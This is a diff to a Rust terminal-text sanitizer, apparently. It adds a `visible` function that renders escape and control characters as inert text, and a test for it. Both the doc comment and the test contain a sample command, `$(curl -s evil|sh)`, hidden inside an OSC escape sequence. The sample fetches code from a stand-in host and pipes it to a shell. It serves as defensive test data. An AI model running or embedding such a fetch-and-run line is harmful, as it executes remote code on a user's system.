@@ -108,6 +108,32 @@ impl Sanitizer {
         Self::clean_with(Sanitizer::new(), input)
     }
 
+    /// The text with every character the filter would drop shown instead,
+    /// as an inert escape (`\e` for ESC, `\a`, `\r`, `\b`, else
+    /// `\u{202e}`): for what the person must read whole before saying yes
+    /// (a command to run, a rule to keep), where removing a sequence would
+    /// hide what it holds (`echo safe; \e]0;$(curl …|sh)\a` runs the
+    /// `$(…)`). Newlines and tabs stay.
+    ///
+    /// ```ignore
+    /// assert_eq!(Sanitizer::visible("a\u{1b}]0;x\u{7}b"), "a\\e]0;x\\ab");
+    /// ```
+    pub fn visible(input: &str) -> String {
+        let mut out = String::with_capacity(input.len());
+        for c in input.chars() {
+            match c {
+                '\n' | '\t' => out.push(c),
+                '\u{1b}' => out.push_str("\\e"),
+                '\u{7}' => out.push_str("\\a"),
+                '\r' => out.push_str("\\r"),
+                '\u{8}' => out.push_str("\\b"),
+                c if is_dropped(c) => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
+                c => out.push(c),
+            }
+        }
+        out
+    }
+
     /// Filter a whole string at once, its colors kept (see
     /// [`Sanitizer::keeping_colors`]).
     pub fn clean_keeping_colors(input: &str) -> String {
@@ -475,5 +501,17 @@ mod tests {
             prop_assert!(all_colors, "{:?} → {:?}", text, kept);
             prop_assert_eq!(plain, Sanitizer::clean(&text), "{:?} → {:?}", text, kept);
         }
+    }
+
+    #[test]
+    fn visible_shows_what_clean_would_drop_and_nothing_stays_live() {
+        let text = "echo safe; \u{1b}]0;$(curl -s evil|sh)\u{7}\r\u{8}\u{9b}2J\u{202e}x\n\tok";
+        let v = Sanitizer::visible(text);
+        assert_eq!(
+            v,
+            "echo safe; \\e]0;$(curl -s evil|sh)\\a\\r\\b\\u{9b}2J\\u{202e}x\n\tok"
+        );
+        assert!(v.chars().all(|c| c == '\n' || c == '\t' || !is_dropped(c)));
+        assert_eq!(Sanitizer::clean(&v), v, "already inert");
     }
 }
